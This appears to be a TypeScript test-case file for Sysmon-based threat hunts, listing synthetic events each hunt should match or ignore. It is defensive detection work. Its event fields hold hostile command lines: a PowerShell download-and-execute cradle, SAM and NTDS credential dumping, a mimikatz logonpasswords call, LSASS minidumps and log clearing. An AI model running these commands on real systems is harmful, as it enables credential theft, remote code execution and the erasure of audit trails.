/** For each hunt, what it must find and what it must not: a name for what happened, and the events that it leaves. */
import { guid, sysmonEvent } from './query-lake.ts';
import type { Event } from './query-lake.ts';

type Fields = Readonly<Record<string, string>>;
/** Events on a host; the host is named after what happens on it. */
type Scenario = (host: string) => readonly Event[];

export interface HuntCases {
  readonly finds: Readonly<Record<string, Scenario>>;
  readonly leaves: Readonly<Record<string, Scenario>>;
}

const one =
  (id: number, fields: Fields): Scenario =>
  (host) => [sysmonEvent({ id, host, fields })];

let process = 0;
/** A GUID that no other process of the cases has. */
const newGuid = (): string => guid(++process);

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
const EXPLORER = 'C:\\Windows\\explorer.exe';

const launch = (fields: Fields): Scenario => one(1, { ProcessGuid: newGuid(), ...fields });
const command = (CommandLine: string, Image = `${SYSTEM32}cmd.exe`): Scenario =>
  launch({ Image, CommandLine });
const outbound = (fields: Fields): Fields => ({
  Initiated: 'true',
  SourceIsIpv6: 'false',
  DestinationIsIpv6: 'false',
  DestinationIp: '203.0.113.50',
  DestinationPort: '443',
  ...fields,
});

/** `parent` starts `child`, which starts `grandchild` where there is one; the last of them connects. */
const chain =
  (images: readonly string[], connection: Fields | undefined): Scenario =>
  (host) => {
    const guids = images.map(() => newGuid());
    const launches = images.slice(1).map((Image, i) =>
      sysmonEvent({
        id: 1,
        host,
        seconds: i,
        fields: {
          Image,
          CommandLine: Image,
          ProcessGuid: guids[i + 1]!,
          ParentImage: images[i]!,
          ParentProcessGuid: guids[i]!,
        },
      }),
    );
    if (connection === undefined) return launches;
    const last = { Image: images.at(-1)!, ProcessGuid: guids.at(-1)! };
    return [
      ...launches,
      sysmonEvent({ id: 3, host, seconds: 9, fields: outbound({ ...last, ...connection }) }),
    ];
  };

/** Connections of one process at these seconds. */
const beacon =
  (seconds: readonly number[], fields: Fields = {}): Scenario =>
  (host) => {
    const ProcessGuid = newGuid();
    return seconds.map((at) =>
      sysmonEvent({
        id: 3,
        host,
        seconds: at,
        fields: outbound({ Image: 'C:\\ProgramData\\update.exe', ProcessGuid, ...fields }),
      }),
    );
  };

const every = (intervalSeconds: number, times: number): number[] =>
  Array.from({ length: times }, (_, i) => i * intervalSeconds);

const dns = (QueryName: string, Image = 'C:\\ProgramData\\update.exe'): Scenario =>
  one(22, { QueryName, Image, ProcessGuid: newGuid() });

const setValue = (TargetObject: string, Details: string, Image = POWERSHELL): Scenario =>
  one(13, { EventType: 'SetValue', TargetObject, Details, Image });

const lsass = (fields: Fields): Scenario =>
  one(10, {
    SourceImage: 'C:\\Users\\jdoe\\a.exe',
    TargetImage: `${SYSTEM32}lsass.exe`,
    GrantedAccess: '0x1010',
    CallTrace: `${SYSTEM32}ntdll.dll+9c524`,
    ...fields,
  });

const thread = (fields: Fields): Scenario =>
  one(8, {
    SourceImage: POWERSHELL,
    TargetImage: `${SYSTEM32}notepad.exe`,
    StartModule: '-',
    StartFunction: '-',
    ...fields,
  });

const older = (fields: Fields): Scenario =>
  one(2, {
    Image: POWERSHELL,
    PreviousCreationUtcTime: '2026-01-02 03:04:05.000',
    CreationUtcTime: '2019-03-04 05:06:07.000',
    ...fields,
  });

const stream = (name: string): Scenario => one(15, { TargetFilename: `C:\\Users\\jdoe\\notes.txt${name}` });

const module = (fields: Fields): Scenario =>
  one(7, {
    Image: `${SYSTEM32}svchost.exe`,
    ImageLoaded: 'C:\\Users\\jdoe\\evil.dll',
    Signed: 'false',
    Signature: '-',
    SignatureStatus: 'Unavailable',
    ...fields,
  });

/** The same pair of a parent and a child, many times over. */
const launches =
  (times: number, fields: Fields): Scenario =>
  (host) =>
    Array.from({ length: times }, (_, i) =>
      sysmonEvent({ id: 1, host, seconds: i, fields: { ProcessGuid: newGuid(), ...fields } }),
    );

const RUN = 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\';

export const HUNT_CASES: Readonly<Record<string, HuntCases>> = {
  office_shell_network: {
    finds: {
      'Word starts PowerShell which connects': chain([WORD, POWERSHELL], {}),
      'Excel starts cmd which starts a program that connects': chain(
        ['C:\\Office\\EXCEL.EXE', `${SYSTEM32}cmd.exe`, 'C:\\Users\\jdoe\\a.exe'],
        {},
      ),
    },
    leaves: {
      'Word starts PowerShell without a connection': chain([WORD, POWERSHELL], undefined),
      'Explorer starts PowerShell which connects': chain([EXPLORER, POWERSHELL], {}),
      'Word starts a printer driver which connects': chain([WORD, `${SYSTEM32}splwow64.exe`], {}),
      'Word starts PowerShell which is connected to': chain([WORD, POWERSHELL], { Initiated: 'false' }),
    },
  },
  lolbin_connections: {
    finds: {
      'regsvr32 fetches a scriptlet': one(3, outbound({ Image: `${SYSTEM32}regsvr32.exe` })),
      'certutil in capitals connects to an address of version 6': one(
        3,
        outbound({
          Image: `${SYSTEM32}CERTUTIL.EXE`,
          DestinationIp: '2001:db8::1',
          DestinationIsIpv6: 'true',
        }),
      ),
      'mshta connects inside the network': one(
        3,
        outbound({ Image: `${SYSTEM32}mshta.exe`, DestinationIp: '10.1.2.3' }),
      ),
    },
    leaves: {
      'svchost connects': one(3, outbound({ Image: `${SYSTEM32}svchost.exe` })),
      'regsvr32 is connected to': one(3, outbound({ Image: `${SYSTEM32}regsvr32.exe`, Initiated: 'false' })),
      'rundll32 talks to its own machine': one(
        3,
        outbound({ Image: `${SYSTEM32}rundll32.exe`, DestinationIp: '127.0.0.1' }),
      ),
      'wmic talks to a multicast group': one(
        3,
        outbound({ Image: `${SYSTEM32}wbem\\wmic.exe`, DestinationIp: '239.255.255.250' }),
      ),
    },
  },
  rare_parent_child: {
    finds: {
      'the print spooler starts cmd': launches(1, {
        ParentImage: `${SYSTEM32}spoolsv.exe`,
        Image: `${SYSTEM32}cmd.exe`,
      }),
      'a screen reader starts whoami twice': launches(2, {
        ParentImage: `${SYSTEM32}Narrator.exe`,
        Image: `${SYSTEM32}whoami.exe`,
      }),
    },
    leaves: {
      'a terminal starts cmd all day': launches(8, {
        ParentImage: 'C:\\Tools\\terminal.exe',
        Image: `${SYSTEM32}cmd.exe`,
      }),
      'an agent starts whoami all day': launches(6, {
        ParentImage: 'C:\\Tools\\agent.exe',
        Image: `${SYSTEM32}whoami.exe`,
      }),
      'a person starts cmd': launches(1, { ParentImage: EXPLORER, Image: `${SYSTEM32}cmd.exe` }),
      'the spooler starts its driver host': launches(1, {
        ParentImage: `${SYSTEM32}spoolsv.exe`,
        Image: `${SYSTEM32}PrintIsolationHost.exe`,
      }),
      'a tool on every host starts cmd once': (host) => [
        ...launches(1, { ParentImage: 'C:\\Tools\\inventory.exe', Image: `${SYSTEM32}cmd.exe` })(host),
        ...launches(1, { ParentImage: 'C:\\Tools\\inventory.exe', Image: `${SYSTEM32}cmd.exe` })(
          'another.corp.example',
        ),
      ],
    },
  },
  unsigned_drivers: {
    finds: {
      'a driver without a signature': one(6, {
        ImageLoaded: 'C:\\Temp\\rk.sys',
        Signed: 'false',
        Signature: '-',
        SignatureStatus: 'Unavailable',
      }),
      'a driver whose signature was revoked': one(6, {
        ImageLoaded: 'C:\\Temp\\capcom.sys',
        Signed: 'true',
        SignatureStatus: 'Revoked',
      }),
    },
    leaves: {
      'a signed driver': one(6, {
        ImageLoaded: 'C:\\Windows\\System32\\drivers\\ntfs.sys',
        Signed: 'true',
        SignatureStatus: 'Valid',
      }),
    },
  },
  unsigned_modules: {
    finds: {
      'svchost loads an unsigned module of a user': module({}),
      'a program of Windows loads an unsigned module from Program Files': module({
        ImageLoaded: 'C:\\Program Files\\App\\version.dll',
      }),
      'a program loads an expired module from ProgramData': module({
        Image: 'C:\\Program Files\\App\\app.exe',
        ImageLoaded: 'C:\\ProgramData\\a.dll',
        Signed: 'true',
        SignatureStatus: 'Expired',
      }),
      'a program that nobody knows loads an unsigned module of a user': module({ Image: '-' }),
    },
    leaves: {
      'a signed module of a user': module({ Signed: 'true', SignatureStatus: 'Valid' }),
      'a program loads its own image': module({
        Image: 'C:\\Users\\jdoe\\a.exe',
        ImageLoaded: 'C:\\Users\\jdoe\\A.exe',
      }),
      'a program of its own folder': module({
        Image: 'C:\\Program Files\\App\\app.exe',
        ImageLoaded: 'C:\\Program Files\\App\\a.dll',
      }),
      'a native image of .NET': module({
        ImageLoaded: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System\\1\\System.ni.dll',
      }),
    },
  },
  lsass_access: {
    finds: {
      'a program of a user reads its memory': lsass({}),
      'a program takes all access': lsass({ GrantedAccess: '0x1FFFFF' }),
      'wmiprvse reads it from memory of no module': lsass({
        SourceImage: `${SYSTEM32}wbem\\wmiprvse.exe`,
        CallTrace: `${SYSTEM32}ntdll.dll+9c524|UNKNOWN(000001B925787240)`,
      }),
    },
    leaves: {
      'a program asks who it is': lsass({ GrantedAccess: '0x1000' }),
      'wmiprvse reads it as it does': lsass({
        SourceImage: `${SYSTEM32}wbem\\wmiprvse.exe`,
        GrantedAccess: '0x1410',
      }),
      'Defender reads it': lsass({
        SourceImage: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
      }),
      'a program reads another process': lsass({ TargetImage: `${SYSTEM32}notepad.exe` }),
    },
  },
  beaconing: {
    finds: {
      'a program that calls every minute': beacon(every(60, 12)),
      'a program that calls with some jitter': beacon([0, 50, 115, 160, 235, 290, 340, 410, 455, 520]),
      'a program that nobody knows calls every minute': beacon(every(60, 12), { Image: '-' }),
    },
    leaves: {
      'a program that calls seven times': beacon(every(60, 7)),
      'a program that calls when it has to': beacon([0, 1, 2, 3, 300, 301, 900, 2000, 2001, 2002]),
      'a browser that calls every minute': beacon(every(60, 12), {
        Image: 'C:\\Program Files\\Mozilla Firefox\\firefox.exe',
      }),
      'a program that asks a name server every minute': beacon(every(60, 12), { DestinationPort: '53' }),
      'a program that calls its own machine': beacon(every(60, 12), { DestinationIp: '127.0.0.1' }),
      'a program that loads a page': beacon(every(1, 20)),
    },
  },
  dns_rare_domains: {
    finds: {
      'one program asks for one domain': dns('c2.evil-domain.test'),
      'one program asks below a domain of three labels': dns('www.shop.co.uk'),
      'another program asks below another of them': dns('www.bank.co.uk', 'C:\\ProgramData\\other.exe'),
      'a program that nobody knows asks for one domain': dns('c2.unknown-domain.test', '-'),
    },
    leaves: {
      'a browser asks for a domain': dns(
        'www.rare-news.test',
        'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      ),
      'a program asks for an address of Microsoft': dns('settings-win.data.microsoft.com'),
      'a program asks for a host of its own domain': dns('dc01.corp.example'),
      'a program asks for a name without a dot': dns('wpad'),
      'a program asks for the name of an address': dns('7.2.0.192.in-addr.arpa.'),
      'two hosts ask for the same domain': (host) => [
        ...dns('a.common-tool.test')(host),
        ...dns('b.common-tool.test')('another.corp.example'),
      ],
      'a program asks for its domain all day': (host) =>
        every(60, 6).flatMap((seconds) => [
          sysmonEvent({
            id: 22,
            host,
            seconds,
            fields: { QueryName: 'api.own-tool.test', Image: 'C:\\Tools\\tool.exe' },
          }),
        ]),
    },
  },
  run_keys: {
    finds: {
      'PowerShell sets a run key': setValue(`${RUN}Updater`, 'powershell -enc AAAA'),
      'a run key below WOW6432Node': setValue(
        'HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\a',
        'C:\\Users\\jdoe\\a.exe',
      ),
      'the shell of Winlogon': setValue(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell',
        'explorer.exe, a.exe',
      ),
      'a program that nobody knows sets a run key': setValue(
        `${RUN}App`,
        'C:\\Program Files\\App\\a.exe',
        '-',
      ),
    },
    leaves: {
      'an updater of a program sets its run key': setValue(
        `${RUN}App`,
        '"C:\\Program Files\\App\\app.exe" /background',
        'C:\\Program Files\\App\\setup.exe',
      ),
      'a value that only looks like it': setValue(
        'HKLM\\SOFTWARE\\App\\RunOptions\\Speed',
        'DWORD (0x00000001)',
      ),
      'a run key is deleted': one(12, {
        EventType: 'DeleteValue',
        TargetObject: `${RUN}Updater`,
        Image: POWERSHELL,
      }),
    },
  },
  debugger_hijacks: {
    finds: {
      'sethc is replaced by cmd': setValue(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger',
        'C:\\Windows\\System32\\cmd.exe',
      ),
      'a monitor of silent exits': setValue(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe\\MonitorProcess',
        'C:\\a.exe',
      ),
    },
    leaves: {
      'a mitigation of a program is set': setValue(
        'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\a.exe\\MitigationOptions',
        'Binary Data',
      ),
    },
  },
  wmi_persistence: {
    finds: {
      'a consumer that runs a command': one(20, {
        Name: ' "Evil"',
        Type: 'Command Line',
        Destination: ' "cmd /c a.exe"',
      }),
      'a filter on the start of a process': one(19, {
        Name: ' "Evil"',
        Query: ' "select * from Win32_ProcessStartTrace"',
      }),
      'a binding of the two': one(21, {
        Consumer: ' "CommandLineEventConsumer.Name=\\"Evil\\""',
        Filter: ' "__EventFilter.Name=\\"Evil\\""',
      }),
    },
    leaves: {
      'the consumer that Windows has': one(20, { Name: ' "SCM Event Log Consumer"', Type: 'Log File' }),
      'the filter that Windows has': one(19, { Name: ' "SCM Event Log Filter"' }),
      'a consumer is deleted': one(20, { Operation: 'Deleted', Name: ' "Evil"' }),
    },
  },
  remote_threads: {
    finds: {
      'PowerShell starts a thread in notepad': thread({}),
      'a program starts LoadLibrary in another': thread({
        SourceImage: 'C:\\a.exe',
        StartModule: `${SYSTEM32}kernel32.dll`,
        StartFunction: 'LoadLibraryA',
      }),
      'a program that is called csrss': thread({
        SourceImage: 'C:\\Users\\jdoe\\csrss.exe',
        StartFunction: 'CtrlRoutine',
      }),
      'a program that nobody knows': thread({ SourceImage: '-' }),
    },
    leaves: {
      'csrss passes a Ctrl C on': thread({
        SourceImage: `${SYSTEM32}csrss.exe`,
        StartModule: `${SYSTEM32}KERNELBASE.dll`,
        StartFunction: 'CtrlRoutine',
      }),
      'a program starts one in a copy of itself': thread({
        SourceImage: 'C:\\App\\app.exe',
        TargetImage: 'C:\\App\\APP.exe',
      }),
    },
  },
  timestomping: {
    finds: {
      'PowerShell makes a file years older': older({ TargetFilename: 'C:\\Windows\\Temp\\a.exe' }),
      'a program that nobody knows': older({ TargetFilename: 'C:\\Windows\\Temp\\b.exe', Image: '-' }),
    },
    leaves: {
      'a file is made younger': older({
        PreviousCreationUtcTime: '2019-03-04 05:06:07.000',
        CreationUtcTime: '2026-01-02 03:04:05.000',
      }),
      'a file is made hours older': older({ CreationUtcTime: '2026-01-01 23:04:05.000' }),
      'an archiver keeps the times of what it unpacks': older({ Image: 'C:\\Program Files\\7-Zip\\7z.exe' }),
      'an agent unpacks a tree of files': (host) =>
        every(1, 30).map((seconds) =>
          sysmonEvent({
            id: 2,
            host,
            seconds,
            fields: {
              Image: 'C:\\Agent\\agent.exe',
              TargetFilename: `C:\\Agent\\${seconds}.dll`,
              PreviousCreationUtcTime: '2026-01-02 03:04:05.000',
              CreationUtcTime: '2019-03-04 05:06:07.000',
            },
          }),
        ),
    },
  },
  alternate_streams: {
    finds: { 'a program hides in a stream': stream(':hidden.exe') },
    leaves: {
      'a browser writes the mark of the web': stream(':Zone.Identifier'),
      'a file without a stream': stream(''),
      'Windows keeps properties': stream(':{4c8cc155-6c1e-11d1-8e41-00c04fb9386d}'),
    },
  },
  encoded_powershell: {
    finds: {
      'an encoded command': command('powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A', POWERSHELL),
      'the long name of the option': command(
        'powershell.exe -EncodedCommand "SQBFAFgAIAAoAE4AZQB3AC0A"',
        POWERSHELL,
      ),
      'a hidden window without a profile': command('powershell -nop -w hidden -c $x', POWERSHELL),
      'a cradle': command(
        `powershell "IEX (New-Object Net.WebClient).DownloadString('http://a.test')"`,
        POWERSHELL,
      ),
    },
    leaves: {
      'a script of an administrator': command(
        'powershell -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
        POWERSHELL,
      ),
      'a hidden window with a profile': command('powershell -WindowStyle Hidden -File a.ps1', POWERSHELL),
      'the words on another command line': command('findstr DownloadString a.ps1', `${SYSTEM32}findstr.exe`),
    },
  },
  credential_stores: {
    finds: {
      'ntdsutil makes a copy of the directory': command('ntdsutil "ac i ntds" "ifm" "create full C:\\a" q q'),
      'reg saves the SAM': command('reg.exe save hklm\\sam C:\\a'),
      'esentutl copies the SAM from a shadow': command(
        'esentutl.exe /y /vss C:\\windows/system32/config/SAM /d C:\\a',
      ),
      'comsvcs dumps a process': command(
        'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 512 C:\\a full',
      ),
      'mimikatz speaks': command('a.exe "sekurlsa::logonpasswords" exit'),
    },
    leaves: {
      'reg saves a key of a program': command('reg save HKLM\\SOFTWARE\\App C:\\a'),
      'esentutl repairs a database': command('esentutl /p C:\\Users\\jdoe\\mail.edb'),
      'vssadmin lists the shadows': command('vssadmin list shadows'),
    },
  },
  log_clearing: {
    finds: {
      'wevtutil clears a log': command('wevtutil.exe cl Security'),
      'auditpol clears the policies': command('auditpol /clear /y'),
      'the driver of Sysmon is unloaded': command('fltMC.exe unload SysmonDrv'),
    },
    leaves: {
      'wevtutil reads a log': command('wevtutil qe Security /c:10'),
      'auditpol shows the policies': command('auditpol /get /category:*'),
      'auditpol turns a policy on': command('auditpol /set /category:"Logon/Logoff" /success:enable'),
    },
  },
  remote_shells: {
    finds: {
      'a service that is a shell': launch({
        ParentImage: `${SYSTEM32}services.exe`,
        Image: `${SYSTEM32}cmd.exe`,
      }),
      'WMI starts PowerShell': launch({ ParentImage: `${SYSTEM32}wbem\\WmiPrvSE.exe`, Image: POWERSHELL }),
      'WinRM starts PowerShell': launch({ ParentImage: `${SYSTEM32}wsmprovhost.exe`, Image: POWERSHELL }),
      'an embedded console starts cmd': launch({
        ParentImage: `${SYSTEM32}mmc.exe`,
        ParentCommandLine: 'mmc.exe -Embedding',
        Image: `${SYSTEM32}cmd.exe`,
      }),
    },
    leaves: {
      'services starts a service': launch({
        ParentImage: `${SYSTEM32}services.exe`,
        Image: `${SYSTEM32}svchost.exe`,
      }),
      'a console starts cmd': launch({
        ParentImage: `${SYSTEM32}mmc.exe`,
        ParentCommandLine: 'mmc.exe compmgmt.msc',
        Image: `${SYSTEM32}cmd.exe`,
      }),
      'Explorer starts PowerShell': launch({ ParentImage: EXPLORER, Image: POWERSHELL }),
    },
  },
};
